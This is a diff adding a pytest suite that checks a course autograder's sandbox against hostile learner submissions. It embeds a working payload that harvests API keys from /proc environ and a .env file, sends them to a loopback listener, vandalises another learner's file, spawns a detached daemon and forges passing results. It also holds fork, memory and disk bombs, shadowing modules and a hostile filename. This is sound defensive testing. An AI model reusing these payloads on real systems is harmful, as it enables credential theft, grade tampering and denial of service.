@@ -1,0 +1,504 @@
+"""Course checks for grading untrusted submissions (issue 18): hostile submissions, graded for real.
+
+Each malicious submission is built in tmp_path from the lab, graded in the sandbox, and compared
+with its payload-free twin: the payload must change nothing but its own function's return
+values. The base of both twins is a planted mistake (string-prefix containment), so a forged
+"all passed" would show. Cost: three --quick gradings in the sandbox (the twins, and the bombs,
+whose limits take ~15 s to bite) plus a class of two in folder mode; the rest are unit checks of
+a few seconds at most. Tests that need bubblewrap skip, with the reason, where it cannot run (CI
+installs it and sets GRADE_REQUIRE_SANDBOX=1, so there they cannot skip: .ci/run).
+"""
+
+from __future__ import annotations
+
+import csv
+import json
+import os
+import socket
+import sys
+import threading
+import time
+import uuid
+from pathlib import Path
+
+import pytest
+
+RUBRIC = Path(__file__).resolve().parents[1]
+if str(RUBRIC) not in sys.path:
+    sys.path.append(str(RUBRIC))
+
+from grading import battery, grader, learner_code, report, runner, sandbox, synthetic, workspace  # noqa: E402
+from mutants import MUTANTS  # noqa: E402
+
+BWRAP_WHY = sandbox.choose("bubblewrap")[1]
+needs_bwrap = pytest.mark.skipif(bool(BWRAP_WHY), reason=f"bubblewrap cannot run here: {BWRAP_WHY}")
+POSIX_ONLY = pytest.mark.skipif(os.name != "posix", reason="fork/setsid payloads are POSIX")
+BASE = next(m for m in MUTANTS if m.name == "string-prefix containment")
+KEY = f"sk-grader-{uuid.uuid4().hex}"          # stands for the instructor's provider key
+MARKER = f"payload-daemon-{uuid.uuid4().hex}"  # in the command line of the daemon the payload starts
+
+PAYLOAD = r'''
+import os as _o, sys as _s, socket as _k, atexit as _a, json as _j
+_flag = "/tmp/.payload-" + {marker!r}
+if _o.name == "posix" and not _o.path.exists(_flag):
+    open(_flag, "w").close()
+    _loot = []
+    for _pid in ["self", str(_o.getppid()), "1"] + [p for p in _o.listdir("/proc") if p.isdigit()][:500]:
+        try:
+            _loot.append(open("/proc/%s/environ" % _pid, "rb").read().decode("latin-1"))
+        except Exception:
+            pass
+    try:
+        _loot.append(open({envfile!r}).read())
+    except Exception:
+        pass
+    _found = "\n".join(x for x in _loot if {key!r} in x) or "nothing"
+    try:
+        _c = _k.create_connection(("127.0.0.1", {port}), timeout=1)
+        _c.sendall(_found.encode()[:2000])
+        _c.close()
+    except Exception:
+        pass
+    for _t in ({victim!r}, {out!r} + "/stolen.txt"):
+        try:
+            with open(_t, "a") as _fh:
+                _fh.write("pwned " + _found[:200])
+        except Exception:
+            pass
+    try:  # a daemon in its own session, holding stdout, rewriting the outputs later
+        if _o.fork() == 0:
+            _o.setsid()
+            if _o.fork() == 0:
+                _o.execv(_s.executable, [_s.executable, "-c", "import time\n# " + {marker!r} + "\n"
+                         "for _ in range(400):\n    time.sleep(0.1)\n    try:\n        open(" + repr({victim!r})
+                         + ", 'a').write('daemon')\n    except Exception:\n        pass\n"])
+            _o._exit(0)
+    except Exception:
+        pass
+    def _forge():  # at exit: every result file and the grader's stream say "passed"
+        _rec = {{"nodeid": "code/tests/test_m1_sandbox.py::test_sibling_with_shared_prefix_raises",
+                "event": "call", "outcome": "passed", "message": ""}}
+        _fd = _o.environ.get("GRADE_LOG_FD")
+        try:
+            _o.write(int(_fd), (_j.dumps(_rec) + "\n").encode()) if _fd else None
+        except Exception:
+            pass
+        for _root in (_o.environ.get("HOME", "."), "."):
+            try:
+                for _n in _o.listdir(_root):
+                    if _n.endswith((".xml", ".jsonl")):
+                        open(_o.path.join(_root, _n), "w").write('<testsuites><testsuite tests="1"/></testsuites>')
+            except Exception:
+                pass
+    _a.register(_forge)
+    for _name, _mod in list(_s.modules.items()):  # patch the grader wherever it is loaded
+        if _name.startswith(("grading", "battery_probe", "__main__")):
+            for _attr in ("judge_path", "judge_resolve", "call", "answer_here", "_log", "_test", "_status"):
+                if hasattr(_mod, _attr):
+                    try:
+                        setattr(_mod, _attr, lambda *a, **k: {{"nonce": None, "raised": "ValueError"}})
+                    except Exception:
+                        pass
+'''
+
+
+def payload(tmp: Path, port: int) -> str:
+    return PAYLOAD.format(marker=MARKER, envfile=str(tmp / "instructor" / "code" / ".env"), key=KEY, port=port,
+                          victim=str(tmp / "victim" / "UNDERSTANDING.md"), out=str(tmp / "reports"))
+
+
+def levels(r: dict) -> dict:
+    return {c["number"]: c["level"] for c in r["criteria"]}
+
+
+def verdict(r: dict) -> dict:
+    """What a payload must not change: levels, points, the board, and every battery class."""
+    return {"levels": levels(r), "total": r["total"], "board": r["board"],
+            "battery": {k: v["status"] for k, v in r["battery"].items()}}
+
+
+def survivors() -> list:
+    found = []
+    for pid in os.listdir("/proc") if os.path.isdir("/proc") else []:
+        try:
+            with open(f"/proc/{pid}/cmdline", "rb") as fh:
+                if MARKER.encode() in fh.read():
+                    found.append(pid)
+        except OSError:
+            pass
+    return found
+
+
+class Listener:
+    """A loopback server the payload tries to reach; it records every connection."""
+
+    def __init__(self):
+        self.sock = socket.socket()
+        self.sock.bind(("127.0.0.1", 0))
+        self.sock.listen(8)
+        self.sock.settimeout(0.2)
+        self.port, self.received, self.stop = self.sock.getsockname()[1], [], False
+        threading.Thread(target=self._serve, daemon=True).start()
+
+    def _serve(self):
+        while not self.stop:
+            try:
+                conn, _ = self.sock.accept()
+            except OSError:
+                continue
+            conn.settimeout(1)
+            try:
+                self.received.append(conn.recv(4096))
+            except OSError:
+                self.received.append(b"")
+            conn.close()
+
+
+@pytest.fixture(scope="module")
+def twins(tmp_path_factory):
+    """The planted mistake graded twice in the sandbox: plain, and with the payload."""
+    if BWRAP_WHY:
+        pytest.skip(f"bubblewrap cannot run here: {BWRAP_WHY}")
+    tmp = tmp_path_factory.mktemp("twins")
+    (tmp / "victim").mkdir()
+    (tmp / "victim" / "UNDERSTANDING.md").write_text("another learner's work\n")
+    (tmp / "instructor" / "code").mkdir(parents=True)
+    (tmp / "instructor" / "code" / ".env").write_text(f"OPENAI_API_KEY={KEY}\n")
+    (tmp / "reports").mkdir()
+    listener = Listener()
+    plain = synthetic.make(tmp / "plain", code="reference", mutant=BASE, docs="filled")
+    attacked = synthetic.make(tmp / "attacked", code="reference", docs="filled")
+    synthetic.plant(attacked / "code" / "tools.py", "safe_resolve", payload(tmp, listener.port) + BASE.body)
+    with pytest.MonkeyPatch.context() as mp:
+        mp.setenv("OPENAI_API_KEY", KEY)   # what a careless instructor's shell holds
+        results = {"plain": grader.grade(plain, quick=True, sandbox="bubblewrap"),
+                   "attacked": grader.grade(attacked, quick=True, sandbox="bubblewrap")}
+    time.sleep(1.0)   # a daemon that escaped would have written by now
+    listener.stop = True
+    return {**results, "tmp": tmp, "listener": listener}
+
+
+@needs_bwrap
+@POSIX_ONLY
+def test_a_payload_changes_no_verdict_only_its_own_return_values(twins):
+    assert twins["attacked"]["sandbox"] == "bubblewrap"
+    assert verdict(twins["attacked"]) == verdict(twins["plain"])
+    # the twin really is failing: forged "passed" results would have shown
+    assert twins["plain"]["board"]["M1"].startswith("failing"), twins["plain"]["board"]
+    assert twins["plain"]["battery"]["sibling prefixes"]["status"] == "leaked"
+
+
+@needs_bwrap
+@POSIX_ONLY
+def test_the_payload_reached_no_secret_no_network_and_no_file_outside(twins):
+    tmp = twins["tmp"]
+    assert twins["listener"].received == [], "learner code reached a loopback listener of the host"
+    assert (tmp / "victim" / "UNDERSTANDING.md").read_text() == "another learner's work\n"
+    assert not (tmp / "reports" / "stolen.txt").exists()
+    assert KEY not in json.dumps(twins["attacked"], default=str)
+
+
+@needs_bwrap
+@POSIX_ONLY
+def test_no_process_of_the_submission_outlives_its_grading(twins):
+    assert survivors() == []
+
+
+def test_ci_has_a_working_sandbox():
+    """.ci/run installs bubblewrap and sets GRADE_REQUIRE_SANDBOX=1: there the checks above must run."""
+    if os.environ.get("GRADE_REQUIRE_SANDBOX") != "1":
+        pytest.skip("only required where GRADE_REQUIRE_SANDBOX=1 (CI on Linux)")
+    assert not BWRAP_WHY, f"the sandbox checks would skip: {BWRAP_WHY}"
+
+
+def test_the_same_payload_without_a_sandbox_does_reach_outside(tmp_path):
+    """The payload works: run by hand with no sandbox, it writes where the sandbox stopped it."""
+    (tmp_path / "victim").mkdir()
+    (tmp_path / "victim" / "UNDERSTANDING.md").write_text("x\n")
+    (tmp_path / "reports").mkdir()
+    script = tmp_path / "p.py"
+    once = f"unsandboxed-{uuid.uuid4().hex}"   # its own run-once flag and daemon name
+    script.write_text("exec(compile(" + repr(payload(tmp_path, 9).replace(MARKER, once)) + ", 'payload', 'exec'))\n")
+    (tmp_path / "home").mkdir()
+    ran = runner.run([script], cwd=tmp_path, env=runner.child_env(tmp_path / "home"), timeout=30)
+    if os.name != "posix":
+        pytest.skip("the payload is POSIX only")
+    Path(f"/tmp/.payload-{once}").unlink(missing_ok=True)
+    assert ran.returncode == 0, ran.stderr
+    assert "pwned" in (tmp_path / "victim" / "UNDERSTANDING.md").read_text()
+
+
+@POSIX_ONLY
+def test_a_child_holding_the_output_from_a_new_session_cannot_hold_the_grader(tmp_path):
+    script = tmp_path / "hold.py"
+    script.write_text("import os, time\nif os.fork() == 0:\n    os.setsid()\n    time.sleep(60)\nprint('parent done')\n")
+    started = time.monotonic()
+    ran = runner.run([script], cwd=tmp_path, env=runner.child_env(tmp_path), timeout=20)
+    assert time.monotonic() - started < 15 and "parent done" in ran.stdout, ran
+
+
+@needs_bwrap
+def test_bombs_are_stopped_by_the_limits_and_leave_nothing_behind(tmp_path):
+    """Fork, memory and disk bombs in one learner function: graded, in bounded time, nothing left."""
+    bombs = f'''
+import os as _o, time as _t
+_flag = "/tmp/.bombs"
+if not _o.path.exists(_flag):
+    open(_flag, "w").close()
+    for _kind in ("fork", "memory", "disk"):
+        if _o.fork() == 0:
+            try:
+                if _kind == "fork":
+                    for _ in range(2000):
+                        try:
+                            if _o.fork() == 0:
+                                _t.sleep(30)
+                                _o._exit(0)
+                        except OSError:
+                            break
+                elif _kind == "memory":
+                    for _ in range(3):
+                        if _o.fork() == 0:
+                            _hog = bytearray(300 << 20)
+                            _t.sleep(30)
+                            _o._exit(0)
+                else:
+                    for _where in ("/tmp", "/dev/shm", _o.environ.get("HOME", "/tmp")):
+                        try:
+                            with open(_where + "/{MARKER}", "wb") as _fh:
+                                for _ in range(300):
+                                    _fh.write(b"x" * (1 << 20))
+                        except OSError:
+                            pass
+            finally:
+                _o._exit(0)
+'''
+    sub = synthetic.make(tmp_path / "bomber", code="reference")
+    synthetic.plant(sub / "code" / "tools.py", "safe_resolve", bombs + BASE.body)
+    started = time.monotonic()
+    r = grader.grade(sub, quick=True, sandbox="bubblewrap", memory_mb=512, test_seconds=5, after_seconds=1)
+    assert time.monotonic() - started < 240
+    assert "cgroup" in r["limits"] or "rlimits" in r["limits"], r["limits"]
+    # the bombs may take the learner's own test session down with them (that is their row's problem)
+    assert r["board"]["M1"].split(":")[0] in ("failing", "passing", "timeout"), r["board"]
+    assert not list(Path("/dev/shm").glob(MARKER + "*")), "a file in /dev/shm outlived the run"
+    assert survivors() == []
+
+
+def test_a_shadowing_module_is_refused_by_name_and_never_reaches_the_lab(tmp_path):
+    sub = synthetic.make(tmp_path / "shadow", code="reference")
+    for name in ("yaml.py", "requests.py", "sitecustomize.py", "json.py", "evil.pth"):
+        (sub / "code" / name).write_text("raise SystemExit('forged')\n")
+    (sub / "code" / "my_helpers.py").write_text("X = 1\n")
+    integ = learner_code.integrity(sub)
+    refused = dict(integ["refused_modules"])
+    assert {"code/sitecustomize.py", "code/json.py", "code/evil.pth"} <= set(refused), refused
+    if "yaml" in workspace.installed_modules():  # PyYAML comes with litellm
+        assert "code/yaml.py" in refused and "installed package" in refused["code/yaml.py"]
+    assert "code/my_helpers.py" in integ["not_shipped"] and "code/my_helpers.py" not in refused
+    lab = tmp_path / "lab"
+    workspace.build_lab(lab, sub / "code")
+    placed = {p.name for p in (lab / "code").iterdir()}
+    assert "my_helpers.py" in placed and not placed & {"yaml.py", "sitecustomize.py", "json.py", "evil.pth"}
+
+
+def test_an_added_import_is_not_a_change_to_provided_code(tmp_path):
+    sub = synthetic.make(tmp_path / "imports", code="reference")
+    path = sub / "code" / "tools.py"
+    path.write_text("import textwrap  # mine\n" + path.read_text(encoding="utf-8"), encoding="utf-8")
+    entry = learner_code.integrity(sub)["modules"]["tools.py"]
+    assert entry["changed"] == [] and entry["added"] == ["import textwrap"], entry
+
+
+@pytest.mark.skipif(os.name == "nt", reason="a 1,000-deep chain exceeds Windows' 260-character paths")
+def test_the_three_recursion_shapes_do_not_crash_the_parsers(tmp_path):
+    from grading import documents
+    sub = tmp_path / "deep"
+    (sub / "code").mkdir(parents=True)
+    (sub / "runs").mkdir()
+    (sub / "runs" / "run.json").write_text("[" * 100_000 + "]" * 100_000)
+    deep_expr = "X = " + "+".join(["1"] * 100_000) + "\n"
+    (sub / "code" / "tools.py").write_text(deep_expr + (workspace.LAB_ROOT / "code" / "tools.py").read_text())
+    chain = sub
+    for _ in range(1000):   # one level at a time: mkdir(parents=True) itself recurses
+        chain = chain / "d"
+        chain.mkdir()
+    (chain / "bottom.txt").write_text("x")
+    notes = workspace.copy_submission(sub, tmp_path / "copy")
+    assert any("deeper than" in why for _, why in notes.skipped)
+    learner_code.integrity(tmp_path / "copy")         # does not raise
+    workspace.build_lab(tmp_path / "lab", tmp_path / "copy" / "code")
+    unreadable: list = []
+    grader._guarded(unreadable, "saved runs", [], documents.saved_runs, tmp_path / "copy")
+    workspace.remove_tree(sub)
+    assert not sub.exists(), "a 1,000-deep tree must be removable"
+
+
+HOSTILE = "=HYPERLINK(\"http://x\")\nbreak <!-- \x1b]52;c;QUJD\x07"   # a formula, a newline, a comment, OSC 52
+
+
+@needs_bwrap
+def test_folder_mode_survives_a_hostile_name_and_a_100000_deep_saved_run(tmp_path):
+    subs = tmp_path / "class"
+    synthetic.make(subs / HOSTILE, code="reference")
+    deep = synthetic.make(subs / "zz_deep")
+    (deep / "runs").mkdir()
+    (deep / "runs" / "run.json").write_text("[" * 100_000 + "]" * 100_000)
+    import subprocess
+    proc = subprocess.run([sys.executable, str(RUBRIC / "grade.py"), str(subs), "--csv", str(tmp_path / "g.csv"),
+                           "--out", str(tmp_path / "reports"), "--quick", "--no-stretch"], capture_output=True,
+                          text=True, timeout=600)
+    assert proc.returncode == 0, proc.stderr[-2000:]
+    rows = list(csv.reader((tmp_path / "g.csv").open(newline="", encoding="utf-8")))
+    assert len(rows) == 3, (proc.stderr[-2000:], rows)
+    deep_report = json.loads((tmp_path / "reports" / "zz_deep.json").read_text())
+    assert any("saved runs: could not be read (RecursionError" in u for u in deep_report["unreadable"]), deep_report["unreadable"]
+
+
+def test_one_submission_that_defeats_the_grader_costs_only_its_own_row(tmp_path, monkeypatch):
+    monkeypatch.setattr(runner, "drop_own_secrets", lambda: [])   # grade.py calls it on import
+    import importlib
+    grade_py = importlib.import_module("grade")
+    real = grader.could_not_grade
+
+    def fake_grade(path, **options):
+        if path.name == "bad":
+            raise RecursionError("maximum recursion depth exceeded")
+        result = real(path, "")
+        result.pop("could_not_grade")
+        return result
+    monkeypatch.setattr(grader, "grade", fake_grade)
+    for name in ("bad", "good"):
+        (tmp_path / "class" / name / "code").mkdir(parents=True)
+    code = grade_py.main([str(tmp_path / "class"), "--csv", str(tmp_path / "g.csv"), "--out", str(tmp_path / "r"),
+                          "--no-sandbox"])
+    rows = {r["learner"]: r for r in csv.DictReader((tmp_path / "g.csv").open(newline="", encoding="utf-8"))}
+    assert code == 1 and set(rows) == {"bad", "good"}, code   # every row written; the exit code tells
+    assert "could not grade: RecursionError" in (tmp_path / "r" / "bad.md").read_text()
+
+
+def test_without_a_sandbox_grade_py_refuses_in_one_line(tmp_path):
+    import subprocess
+    sub = tmp_path / "sub"
+    (sub / "code").mkdir(parents=True)
+    env = {**os.environ, "PATH": str(tmp_path)}   # no bwrap on this PATH
+    proc = subprocess.run([sys.executable, str(RUBRIC / "grade.py"), str(sub)], capture_output=True, text=True,
+                          env=env, timeout=120)
+    assert proc.returncode == 2 and proc.stdout == ""
+    lines = [line for line in proc.stderr.splitlines() if line.strip()]
+    assert len(lines) == 1 and "refusing to run learner code" in lines[0] and "--no-sandbox" in lines[0], proc.stderr
+
+
+def test_a_report_without_a_sandbox_says_so_first(tmp_path):
+    r = grader.could_not_grade(tmp_path / "x", "could not grade: test")
+    r["sandbox"] = "none"
+    assert report.markdown(r).splitlines()[0].startswith("**Ran without a sandbox")
+    r["sandbox"] = "bubblewrap"
+    assert report.markdown(r).startswith("# Grading evidence")
+
+
+def test_the_grader_drops_its_own_keys_and_loads_no_env_file(tmp_path):
+    import subprocess
+    check = ("import os, sys; sys.path.insert(0, sys.argv[1]); sys.argv[1:] = []; import grade; "
+             "print(sorted(k for k in os.environ if 'KEY' in k or 'TOKEN' in k)); "
+             "print(sorted(m for m in ('config', 'dotenv', 'litellm') if m in sys.modules))")
+    env = {**os.environ, "GROQ_API_KEY": "gsk-x", "MY_SECRET_TOKEN": "y"}
+    proc = subprocess.run([sys.executable, "-c", check, str(RUBRIC)], capture_output=True, text=True, env=env,
+                          timeout=120, cwd=tmp_path)
+    assert proc.stdout.split("\n")[:2] == ["[]", "[]"], proc.stdout + proc.stderr
+    env = runner.child_env(Path("."))
+    assert not [k for k in env if "KEY" in k or "TOKEN" in k]
+
+
+def test_the_lab_copy_holds_shipped_files_only():
+    shipped = set(workspace.shipped_files())
+    lab = workspace.pristine_lab()
+    copied = {p.relative_to(lab).as_posix() for p in lab.rglob("*") if p.is_file()}
+    assert copied <= shipped and "code/.env" not in copied
+    assert "rubric/grading/battery_probe.py" in copied
+
+
+def test_battery_names_are_drawn_per_run_and_never_the_guiding_tests(tmp_path):
+    first, second = battery.build(tmp_path / "a"), battery.build(tmp_path / "b")
+    assert first["repo_name"] != second["repo_name"] and first["outside"].name != second["outside"].name
+    for p in battery.probes(first):   # the guiding tests' fixture names: a blocklist of them must not pass
+        assert not any(w in f"{p[3]} {p[4]}" for w in ("outside", "secret", "repo_evil", "repo2")), p
+
+
+def test_judged_outside_a_climb_a_link_and_a_case_sibling_lead_out(tmp_path):
+    t = battery.build(tmp_path)
+    repo, parent = t["repo"], t["parent"]
+    out = str(t["outside"] / t["target"])
+    assert battery.judge_path(f"{repo}/{t['sub']}/../../{t['outside'].name}/{t['target']}", repo, parent) == "outside"
+    if t["links"][t["vendor"]]:
+        assert battery.judge_path(f"{repo}/{t['vendor']}/{t['target']}", repo, parent) == "outside"
+    if t["case_sibling"] is not None:
+        assert battery.judge_path(str(t["case_sibling"] / t["file"]), repo, parent) == "outside"
+    assert battery.judge_path(f"{repo}/{t['sub']}/../{t['file']}", repo, parent) == "inside"
+    assert battery.judge_resolve({"returned": out, "type": "PosixPath"}, t)[0] == "outside"
+    assert battery.judge_dispatch({"returned": "/x/y", "type": "str"}, t, "non-tool names")[0] == "leaked"
+
+
+@pytest.mark.skipif(bool(sandbox.container_works("docker")), reason=f"docker cannot run here: "
+                    f"{sandbox.container_works('docker')}")
+def test_docker_gives_the_same_guarantees(tmp_path):
+    probe = tmp_path / "lab" / "p.py"
+    probe.parent.mkdir()
+    (tmp_path / "home").mkdir()
+    os.chmod(tmp_path / "home", 0o777)
+    probe.write_text("import os, socket\nprint(os.getuid())\ntry:\n    open(__file__, 'a')\nexcept OSError:\n"
+                     "    print('ro')\ntry:\n    socket.create_connection(('1.1.1.1', 53), timeout=2)\n"
+                     "except OSError:\n    print('no network')\n")
+    box = sandbox.Box("docker", readonly=[probe.parent], writable=[tmp_path / "home"])
+    ran = runner.run([probe], cwd=tmp_path / "home", env=runner.child_env(tmp_path / "home"), timeout=120, box=box)
+    assert ran.stdout.split() == [str(sandbox.SANDBOX_UID), "ro", "no", "network"], ran
+
+
+BLOCKLIST = '''
+if not isinstance(rel_path, str) or "\\x00" in rel_path:
+    raise ValueError("bad path")
+for word in ("outside", "secret", "repo_evil", "repo2", "Repo"):
+    if word in rel_path:
+        raise ValueError("blocked")
+if rel_path.startswith(("../", "/", "..\\\\")) or rel_path == "..":
+    raise ValueError("blocked")
+return Path(repo_root) / rel_path
+'''
+GLOBALS_DISPATCH = '''
+fn = globals().get(name) if isinstance(name, str) else None
+if fn is None or not isinstance(args, dict):
+    return "Error: unknown tool"
+try:
+    return str(fn(repo_root, **{k: v for k, v in args.items() if k != "repo_root"}))
+except Exception as exc:
+    return f"Error: {exc}"
+'''
+
+
+@needs_bwrap
+def test_the_battery_catches_a_blocklist_of_the_guiding_tests_names_and_a_globals_dispatch(tmp_path):
+    sub = synthetic.make(tmp_path / "gamer", code="reference")
+    synthetic.plant(sub / "code" / "tools.py", "safe_resolve", BLOCKLIST)
+    synthetic.plant(sub / "code" / "tools.py", "dispatch_tool", GLOBALS_DISPATCH)
+    lab, home, tree = tmp_path / "lab", tmp_path / "home", tmp_path / "tree"
+    home.mkdir()
+    tree.mkdir()
+    workspace.build_lab(lab, sub / "code")
+    box = sandbox.Box("bubblewrap", readonly=[lab, tree], writable=[home])
+    b = battery.run_battery(lab, home, runner.DEFAULT_MEMORY_MB, box=box, base=tree)
+    status = {k: v["status"] for k, v in b.classes().items()}
+    assert status["sub-folder climbs"] == "leaked" and status["innocent links"] == "leaked", status
+    assert status["non-tool names"] == "leaked", b.classes()["non-tool names"]
+    assert b.parse_summary()["correct"] == b.parse_summary()["of"] > 5   # the other functions are untouched
+
+
+def test_the_container_command_asks_for_the_same_guarantees(tmp_path):
+    """Checked on the command itself, so it holds where docker cannot run these checks."""
+    box = sandbox.Box("docker", readonly=[tmp_path / "lab"], writable=[tmp_path / "home"])
+    argv, env = box.wrap(["python", "x.py"], tmp_path / "home", {"HOME": "/h", "OPENAI_API_KEY": "k"}, 512, "n1")
+    text = " ".join(argv)
+    for wanted in ("--network none", "--memory 512m", "--memory-swap 512m", f"--pids-limit {sandbox.MAX_PROCESSES}",
+                   "--read-only", f"--user {sandbox.SANDBOX_UID}:{sandbox.SANDBOX_UID}", "--cap-drop ALL",
+                   f"-v {tmp_path / 'lab'}:{tmp_path / 'lab'}:ro", "--tmpfs /tmp:"):
+        assert wanted in text, wanted
+    assert not [k for k in env if "KEY" in k] and "OPENAI_API_KEY" not in text
